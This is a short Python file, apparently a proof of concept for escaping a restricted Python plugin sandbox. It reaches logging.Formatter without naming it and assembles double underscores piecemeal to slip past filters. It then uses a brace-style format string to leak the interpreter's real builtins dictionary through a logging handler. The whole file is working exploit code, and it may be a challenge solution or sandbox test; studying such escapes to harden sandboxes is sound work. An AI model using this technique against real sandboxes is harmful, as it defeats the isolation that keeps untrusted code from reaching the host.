import logging

# Formatter is a gadget name, but an instance is reachable: BufferingFormatter().linefmt
# is logging._defaultFormatter, so type() of it is logging.Formatter.
F = type(logging.BufferingFormatter().linefmt)
U = "_" * 2
OUT = []

class Collector:
    def write(self, s):
        OUT.append(s)
    def flush(self):
        pass

class Plugin:
    def run(self):
        fmt = F("{msg." + U + "globals" + U + "[" + U + "builtins" + U + "]}", style="{")
        h = logging.StreamHandler(Collector())
        h.setFormatter(fmt)
        h.handle(logging.makeLogRecord({"msg": logging.getLogger}))
        return {"Formatter": repr(F), "leak of real builtins dict": OUT[0][:160]}
